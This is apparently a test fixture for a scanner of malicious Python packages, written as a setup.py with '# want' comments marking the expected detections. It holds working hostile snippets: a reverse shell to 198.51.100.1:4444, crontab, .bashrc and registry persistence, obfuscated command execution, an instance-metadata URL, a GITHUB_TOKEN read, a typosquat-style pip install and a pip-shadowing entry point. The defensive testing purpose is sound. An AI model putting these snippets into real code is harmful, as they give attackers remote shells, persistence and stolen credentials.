import os
import pty
import socket
import subprocess
import winreg
import getpass

from setuptools import setup


def shell():
    s = socket.socket()
    s.connect(("198.51.100.1", 4444))  # want "network access"
    os.dup2(s.fileno(), 0)  # want "reverse shell"
    pty.spawn("/bin/sh")  # want "runs a command"


def persist():
    with open(os.path.expanduser("~/.bashrc"), "a") as f:  # want "autostart location"
        f.write("python3 -m evil &\n")
    k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run")  # want "Run/Winlogon"
    os.system("(crontab -l; echo '@reboot /tmp/x') | crontab -")  # want "autostart entry" "runs a command"


def hidden():
    subprocess.Popen(["/tmp/x"], creationflags=0x00000008)  # want "creationflags" "runs a command"
    os.system("nohup /tmp/x >/dev/null 2>&1 &")  # want "background" "runs a command"


def obfuscated():
    m = __import__("o" + "s")  # want "assembled from pieces"
    f = getattr(__builtins__, "ex" + "ec")  # want "getattr"
    g = getattr(m, "system")  # want "getattr"
    g(bytes.fromhex("6964").decode())  # want "decoded or decompressed data reaches a process launch" "runs a command"


def metadata():
    return "http://169.254.169.254/latest/meta-data/"  # want "instance-metadata"


def ci():
    return os.environ.get("GITHUB_TOKEN")  # want "reads GITHUB_TOKEN"


def pip_it():
    subprocess.check_call(["pip", "install", "colourama"])  # want "runs pip install" "runs a command"


setup(name="x", entry_points={"console_scripts": ["pip = x.cli:main", "x-tool = x.cli:main"]})  # want "shadows the pip command"
